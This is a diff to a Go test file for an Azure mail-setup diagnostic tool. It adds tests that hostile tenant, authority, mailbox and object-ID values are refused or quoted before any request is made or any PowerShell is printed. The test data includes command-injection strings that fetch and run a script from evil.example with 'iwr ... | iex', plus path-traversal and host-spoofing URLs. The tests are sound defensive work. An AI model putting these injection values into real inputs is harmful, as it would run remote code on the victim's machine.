@@ -3,7 +3,10 @@ package doctor_test
 import (
 	"context"
 	"errors"
+	"net/http"
+	"net/http/httptest"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/emersion/go-imap/v2/imapclient"
@@ -165,10 +168,10 @@ func TestAzureFailures(t *testing.T) {
 			doctor.StepPermissions, []string{"grant admin consent", "Application permissions > IMAP.AccessAsApp, SMTP.SendAsApp", "adminconsent"},
 			[]string{doctor.StepIMAP, doctor.StepSMTP}},
 		{"IMAP refuses a valid token", fixtureOptions{imapRefuses: true}, nil,
-			doctor.StepIMAP, []string{"New-ServicePrincipal -AppId 00000000-", "-ObjectId " + spObject,
-				"Add-MailboxPermission -Identity " + mailbox + " -User " + spObject + " -AccessRights FullAccess"}, nil},
+			doctor.StepIMAP, []string{"New-ServicePrincipal -AppId '00000000-", "-ObjectId '" + spObject + "'",
+				"Add-MailboxPermission -Identity '" + mailbox + "' -User '" + spObject + "' -AccessRights FullAccess"}, nil},
 		{"SMTP AUTH disabled for the tenant", fixtureOptions{smtpDisabled: "Tenant"}, nil,
-			doctor.StepSMTP, []string{"Set-CASMailbox -Identity " + mailbox + " -SmtpClientAuthenticationDisabled $false",
+			doctor.StepSMTP, []string{"Set-CASMailbox -Identity '" + mailbox + "' -SmtpClientAuthenticationDisabled $false",
 				"Set-TransportConfig -SmtpClientAuthenticationDisabled $false"}, nil},
 		{"bad redirect URI", fixtureOptions{}, func(cfg *doctor.AzureConfig) {
 			cfg.Azure.AppOnly = false
@@ -218,3 +221,94 @@ func TestReport(t *testing.T) {
 type failingWriter struct{}
 
 func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }
+
+// counting counts the requests that reach the network.
+type counting struct {
+	base http.RoundTripper
+	n    atomic.Int32
+}
+
+func (c *counting) RoundTrip(r *http.Request) (*http.Response, error) {
+	c.n.Add(1)
+	return c.base.RoundTrip(r)
+}
+
+// TestHostileTenantAndAuthority: values the azure package refuses fail
+// the tenant step before any request, instead of being fetched.
+func TestHostileTenantAndAuthority(t *testing.T) {
+	for _, tc := range []struct {
+		name, tenant, authority string
+	}{
+		{"query in tenant", "x?y", ""},
+		{"path traversal", "../", ""},
+		{"dot-dot", "..", ""},
+		{"another path", "evil.example/..", ""},
+		{"user information", "@evil.example", ""},
+		{"encoded traversal", "%2e%2e", ""},
+		{"http authority", "contoso.example", "http://login.contoso.example"},
+		{"foreign host through the authority", "contoso.example", "https://login.microsoftonline.com@evil.example"},
+		{"http authority in the tenant", "http://evil.example", ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			f := newFixture(t, fixtureOptions{})
+			rt := &counting{base: f.entra.Client().Transport}
+			f.cfg.Azure.HTTPClient = &http.Client{Transport: rt}
+			f.cfg.Azure.Tenant = tc.tenant
+			if tc.authority != "" {
+				f.cfg.Azure.AuthorityURL = tc.authority
+			}
+			r := doctor.Azure(context.Background(), f.cfg)
+			var out strings.Builder
+			_, _ = r.WriteTo(&out)
+			assert.Equal(t, doctor.Fail, r.Step(doctor.StepTenant).Status, out.String())
+			assert.Equal(t, doctor.Skip, r.Step(doctor.StepCredential).Status, out.String())
+			assert.Zero(t, rt.n.Load(), "no request before the inputs are valid\n%s", out.String())
+			_, err := azure.New(f.cfg.Azure)
+			assert.ErrorIs(t, err, azure.ErrConfig, "the provider refuses the same value")
+		})
+	}
+	t.Run("redirect to another host", func(t *testing.T) {
+		away := httptest.NewTLSServer(http.RedirectHandler("https://login.evil.example/", http.StatusFound))
+		defer away.Close()
+		f := newFixture(t, fixtureOptions{})
+		f.cfg.Azure.AuthorityURL, f.cfg.Azure.HTTPClient = away.URL, away.Client()
+		r := doctor.Azure(context.Background(), f.cfg)
+		assert.Equal(t, doctor.Fail, r.Step(doctor.StepTenant).Status)
+	})
+}
+
+// TestHostileMailbox: a mailbox that is not a plain address is refused
+// and never pasted into PowerShell; quotes in pasted values are doubled.
+func TestHostileMailbox(t *testing.T) {
+	const hostile = "alice@corp.example; iwr https://evil.example/x.ps1 | iex; #"
+	f := newFixture(t, fixtureOptions{imapRefuses: true, smtpDisabled: "Tenant"})
+	f.cfg.Mailbox = hostile
+	r := doctor.Azure(context.Background(), f.cfg)
+	var out strings.Builder
+	_, _ = r.WriteTo(&out)
+	assert.Equal(t, doctor.Fail, r.Step(doctor.StepIMAP).Status, out.String())
+	assert.Equal(t, doctor.Fail, r.Step(doctor.StepSMTP).Status, out.String())
+	for _, line := range strings.Split(out.String(), "\n") {
+		if strings.Contains(line, "-Identity") || strings.Contains(line, "Connect-ExchangeOnline") {
+			t.Errorf("PowerShell printed with a refused mailbox: %s", line)
+		}
+	}
+
+	for _, m := range []string{"o'brien@contoso.example", "Alice <alice@contoso.example>", "a$(iwr x)@contoso.example", "a@b\nSet-X"} {
+		f.cfg.Mailbox = m
+		r = doctor.Azure(context.Background(), f.cfg)
+		s := r.Step(doctor.StepIMAP)
+		require.NotNil(t, s)
+		assert.Contains(t, s.Detail, "not a plain mail address", m)
+	}
+
+	f.cfg.Mailbox = mailbox
+	f.cfg.EnterpriseObjectID = "x'; iwr https://evil.example/x.ps1 | iex; '"
+	r = doctor.Azure(context.Background(), f.cfg)
+	s := r.Step(doctor.StepIMAP)
+	require.NotNil(t, s)
+	assert.Contains(t, s.Fix, `-ObjectId 'x''; iwr https://evil.example/x.ps1 | iex; '''`, "an embedded quote is doubled: the value stays one literal string")
+	f.cfg.EnterpriseObjectID = "x\u2019; iex"
+	r = doctor.Azure(context.Background(), f.cfg)
+	assert.Contains(t, r.Step(doctor.StepIMAP).Fix, "-ObjectId 'x\u2019\u2019; iex'", "PowerShell's typographic single quotes are doubled too")
+}
